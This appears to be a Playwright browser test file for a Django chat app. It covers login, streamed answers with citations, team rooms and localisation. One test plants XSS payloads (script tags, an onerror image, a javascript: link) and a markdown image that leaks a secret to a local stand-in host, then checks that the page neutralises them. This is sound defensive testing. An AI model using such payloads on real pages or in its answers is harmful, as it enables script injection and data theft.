"""The chat web app in a real browser (Debian's Chromium via Playwright) against the live ASGI app,
the real worker and the real SmolLM2/MiniLM on Xinference: sign-in, a streamed answer with a
citation that opens its source, team rooms over WebSockets, the Chinese UI. Screenshots of each
screen go to test-output/screenshots/."""

from __future__ import annotations

import re
import time
from typing import Any

import pytest
from playwright.sync_api import Page, expect
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

from accounts.models import Role
from chat.models import Message
from chat.services import conversation_create
from models_registry.services import team_defaults_set
from tests.browser import screenshot, signed_in_context
from tests.conftest import member_of
from tests.test_chat import chat_setup, wait_until  # noqa: F401  (chat_setup is the fixture)

pytestmark = pytest.mark.django_db(transaction=True)
ANSWER_TIMEOUT_MS = 180_000


def test_sign_in_ask_and_see_the_answer_stream_with_a_citation_that_opens_its_source(
    chat_setup: dict[str, Any],  # noqa: F811
    browser: Any,
    live_asgi_url: str,
) -> None:
    context = browser.new_context(base_url=live_asgi_url, locale="en-US")
    page = context.new_page()
    page.goto("/chat/")
    expect(page).to_have_url(re.compile(r"/login/"))
    screenshot(page, "login")
    page.get_by_test_id("login-username").fill(chat_setup["user"].username)
    page.get_by_test_id("login-password").fill("correct horse battery staple")
    page.get_by_test_id("login-submit").click()
    expect(page.get_by_test_id("username")).to_have_text(chat_setup["user"].username)

    page.get_by_test_id("assistant-picker").select_option(label="Handbook bot")
    page.get_by_test_id("new-chat").click()
    expect(page).to_have_url(re.compile(r"/chat/\d+/$"))
    page.get_by_test_id("composer-input").fill("Where is the vault key kept?")
    page.get_by_test_id("send").click()

    # Tokens arrive one by one: the answer's text grows while the message is still streaming.
    lengths = _lengths_while_streaming(page)
    assert len(set(lengths)) >= 2, f"the answer did not grow while streaming: {lengths}"
    answer = page.locator(".message.assistant[data-status]").last
    expect(answer.get_by_test_id("feedback")).to_be_visible(timeout=ANSWER_TIMEOUT_MS)
    screenshot(page, "chat-answer")

    saved = Message.objects.filter(conversation__owner=chat_setup["user"], role="assistant").latest("pk")
    assert saved.citations, "the knowledge-base answer carries its sources"

    # The running summary on demand (none yet after one turn, and the page says why).
    page.get_by_test_id("show-summary").click()
    expect(page.get_by_test_id("summary-text")).to_contain_text("No summary yet")

    # Regenerate: the answer is written again, in place of the first one.
    page.get_by_test_id("regenerate").click()
    expect(page.locator(f'[data-message-id="{saved.pk}"]')).to_have_count(0)
    expect(page.locator(".message.assistant[data-status]").last.get_by_test_id("feedback")).to_be_visible(
        timeout=ANSWER_TIMEOUT_MS
    )
    assert Message.objects.filter(conversation=saved.conversation, role="assistant").count() == 1
    saved = Message.objects.filter(conversation=saved.conversation, role="assistant").get()
    answer = page.locator(f'[data-message-id="{saved.pk}"]')

    # A file dropped into the chat is parsed and embedded for this conversation; that needs the
    # team's default embedding model, and the page says so while there is none.
    dropped = [{"name": "visit.txt", "mimeType": "text/plain", "buffer": b"The office plant is a fern named Otto."}]
    page.get_by_test_id("file-input").set_input_files(files=dropped)
    expect(page.get_by_test_id("file-status")).to_contain_text("default embedding model")
    team_defaults_set(team=chat_setup["team"], embedding=chat_setup["kb"].embedding_model)
    page.get_by_test_id("file-input").set_input_files(files=[])
    page.get_by_test_id("file-input").set_input_files(files=dropped)
    expect(page.get_by_test_id("file-status")).to_contain_text("visit.txt: ready", timeout=ANSWER_TIMEOUT_MS)
    assert saved.conversation.file_knowledge_base.documents.filter(status="ready").count() == 1  # type: ignore[union-attr]
    screenshot(page, "chat-file-dropped")

    answer.get_by_test_id("thumbs-up").click()
    expect(answer.get_by_test_id("thumbs-up")).to_have_class(re.compile("chosen"))
    wait_until(lambda: Message.objects.get(pk=saved.pk).feedback == 1, timeout=30)
    answer.get_by_test_id("source-link").first.click()
    expect(page.get_by_test_id("cited-chunk")).to_contain_text(saved.citations[0]["snippet"][:40])
    expect(page.get_by_test_id("source-document")).to_have_text(saved.citations[0]["document_name"])
    screenshot(page, "chat-source")

    # Reopened later, then reloaded, the conversation reads as it was written: one question and
    # one answer, rendered as they were while streaming, and no flash box above them.
    page.goto(f"/chat/{saved.conversation_id}/")
    answer_text = page.locator(f'[data-message-id="{saved.pk}"] .body').inner_text()
    assert answer_text.strip(), "the saved answer is shown"
    page.reload()
    expect(page.locator("#messages [data-testid='message']")).to_have_count(2)
    expect(page.locator(".flash")).to_have_count(0)
    expect(page.locator(f'[data-message-id="{saved.pk}"] .body')).to_have_text(answer_text)
    screenshot(page, "chat-reopened")
    context.close()


def _lengths_while_streaming(page: Page) -> list[int]:
    """The answer's length, sampled while it is being written. Fails with what the page and the
    database say when no token comes (the page's error, the answer's saved status)."""
    try:
        page.wait_for_function(
            "() => !document.getElementById('chat-error').hidden || Array.from(document.querySelectorAll("
            "'.message.assistant .body.streaming')).some(el => el.textContent.length > 0)",
            timeout=ANSWER_TIMEOUT_MS,
        )
    except PlaywrightTimeoutError:
        answers = list(Message.objects.filter(role="assistant").order_by("-pk").values("status", "error")[:1])
        raise AssertionError(f"no token within {ANSWER_TIMEOUT_MS} ms; the answer saved so far: {answers}") from None
    error = page.get_by_test_id("chat-error")
    assert not error.is_visible(), f"the chat failed: {error.text_content()}"
    lengths: list[int] = []
    deadline = time.monotonic() + ANSWER_TIMEOUT_MS / 1000
    while time.monotonic() < deadline:
        texts = page.evaluate(
            "() => Array.from(document.querySelectorAll('.message.assistant .body.streaming'))"
            ".map(el => el.textContent.length)"
        )
        if not texts:
            break
        if texts[-1]:
            lengths.append(texts[-1])
        page.wait_for_timeout(50)
    return lengths


def test_two_members_in_a_team_room_see_each_other_and_the_streamed_answer(
    chat_setup: dict[str, Any],  # noqa: F811
    browser: Any,
    live_asgi_url: str,
) -> None:
    team, alice = chat_setup["team"], chat_setup["user"]
    bob = member_of(team, Role.MEMBER)
    room = conversation_create(team=team, owner=alice, assistant=chat_setup["plain_assistant"], is_room=True)
    alice_context = signed_in_context(browser, live_asgi_url, alice)
    bob_context = signed_in_context(browser, live_asgi_url, bob, phone=True)
    alice_page, bob_page = alice_context.new_page(), bob_context.new_page()
    alice_page.goto(f"/chat/{room.pk}/")
    bob_page.goto(f"/chat/{room.pk}/")
    expect(alice_page.get_by_test_id("presence")).to_contain_text(bob.username)
    expect(bob_page.get_by_test_id("presence")).to_contain_text(alice.username)

    alice_page.get_by_test_id("composer-input").fill("Good morning, team")
    alice_page.get_by_test_id("send").click()
    expect(bob_page.locator(".message.user").last).to_contain_text("Good morning, team")
    expect(bob_page.locator(".message.user .author").last).to_have_text(alice.username)

    # Bob's connection drops; what is said meanwhile reaches him when it comes back.
    bob_context.set_offline(True)
    bob_page.evaluate("document.getElementById('conversation').roomSocket.close()")
    expect(bob_page.get_by_test_id("chat-error")).to_be_visible()
    alice_page.get_by_test_id("composer-input").fill("Said while Bob was away")
    alice_page.get_by_test_id("send").click()
    expect(alice_page.locator(".message.user").last).to_contain_text("Said while Bob was away")
    bob_context.set_offline(False)
    expect(bob_page.locator(".message.user").last).to_contain_text("Said while Bob was away", timeout=30_000)
    expect(bob_page.get_by_test_id("chat-error")).to_be_hidden()

    # Bob addresses the assistant; both see its answer written token by token, then saved.
    bob_page.get_by_test_id("composer-input").fill("@assistant Say hello to the team.")
    bob_page.get_by_test_id("send").click()
    lengths = _lengths_while_streaming(alice_page)
    assert len(set(lengths)) >= 2, f"alice did not see the answer grow: {lengths}"
    for page in (alice_page, bob_page):
        expect(page.locator(".message.assistant[data-status]").last.get_by_test_id("feedback")).to_be_visible(
            timeout=ANSWER_TIMEOUT_MS
        )
    answer = Message.objects.filter(conversation=room, role="assistant").latest("pk")
    assert answer.status == "complete"
    assert answer.content
    expected_start = answer.content.strip()[:20]
    expect(alice_page.locator(".message.assistant").last).to_contain_text(expected_start)
    expect(bob_page.locator(".message.assistant").last).to_contain_text(expected_start)
    assert list(room.messages.filter(role="user").values_list("content", flat=True)) == [
        "Good morning, team",
        "Said while Bob was away",
        "@assistant Say hello to the team.",
    ]
    screenshot(alice_page, "room-desktop")
    screenshot(bob_page, "room-phone")
    alice_context.close()
    bob_context.close()


def test_hostile_answers_render_as_text_and_outside_images_do_not_load(
    team: Any, browser: Any, live_asgi_url: str
) -> None:
    from realservices.offline_models import offline_models_on

    user = member_of(team, Role.MEMBER)
    llm, _embedding = offline_models_on(team, "http://127.0.0.1:9")
    from chat.services import assistant_create

    assistant = assistant_create(team=team, name="Quiet", llm=llm)
    conversation = conversation_create(team=team, owner=user, assistant=assistant)
    Message.objects.create(
        conversation=conversation, role="user", author=user, content="<script>window.__xss=1</script>"
    )
    hostile = (
        'Here: <script>window.__xss=2</script> <img src=x onerror="window.__xss=3">\n\n'
        "![leak](http://127.0.0.1:9/collect?secret=abc) [click](javascript:window.__xss=4)\n\n"
        "```python\nprint('highlighted')\n```"
    )
    Message.objects.create(conversation=conversation, role="assistant", content=hostile, model_name="x")
    context = signed_in_context(browser, live_asgi_url, user)
    page = context.new_page()
    outside_requests: list[str] = []
    page.on("request", lambda request: outside_requests.append(request.url) if ":9/" in request.url else None)
    page.goto(f"/chat/{conversation.pk}/")
    expect(page.locator(".message.user").first).to_contain_text("<script>window.__xss=1</script>")
    assistant_body = page.locator(".message.assistant .body")
    expect(assistant_body).to_contain_text("<script>window.__xss=2</script>")
    expect(assistant_body.locator("code .hl-nb")).to_have_text("print")
    expect(page.locator('a[href^="javascript"]')).to_have_count(0)
    assert page.evaluate("window.__xss") is None
    assert assistant_body.locator("img").get_attribute("src") is None
    assert outside_requests == []
    screenshot(page, "chat-hostile-answer", markup_expected=True)
    # After a reload: the two messages once each, and nothing above them (the page once printed
    # every message as a Python dict in a flash box).
    page.reload()
    expect(page.locator("#messages [data-testid='message']")).to_have_count(2)
    expect(page.locator(".flash")).to_have_count(0)
    assert "{'message'" not in page.locator("body").inner_text()
    context.close()


def test_the_chinese_ui_follows_the_browser_and_the_users_setting(team: Any, browser: Any, live_asgi_url: str) -> None:
    user = member_of(team, Role.MEMBER)
    context = signed_in_context(browser, live_asgi_url, user, locale="zh-CN")
    page = context.new_page()
    page.goto("/chat/")
    expect(page.get_by_test_id("nav-chat")).to_have_text("聊天")
    expect(page.get_by_test_id("new-chat")).to_have_text("新建对话")
    expect(page.locator("html")).to_have_attribute("lang", "zh-hans")
    screenshot(page, "chat-home-zh")
    page.get_by_test_id("language-switcher").select_option("en")
    expect(page.get_by_test_id("nav-chat")).to_have_text("Chat")
    user.refresh_from_db()
    assert user.language == "en"
    # The setting follows the user to a browser that asks for Chinese.
    other = signed_in_context(browser, live_asgi_url, user, locale="zh-CN").new_page()
    other.goto("/chat/")
    expect(other.get_by_test_id("nav-chat")).to_have_text("Chat")
    context.close()
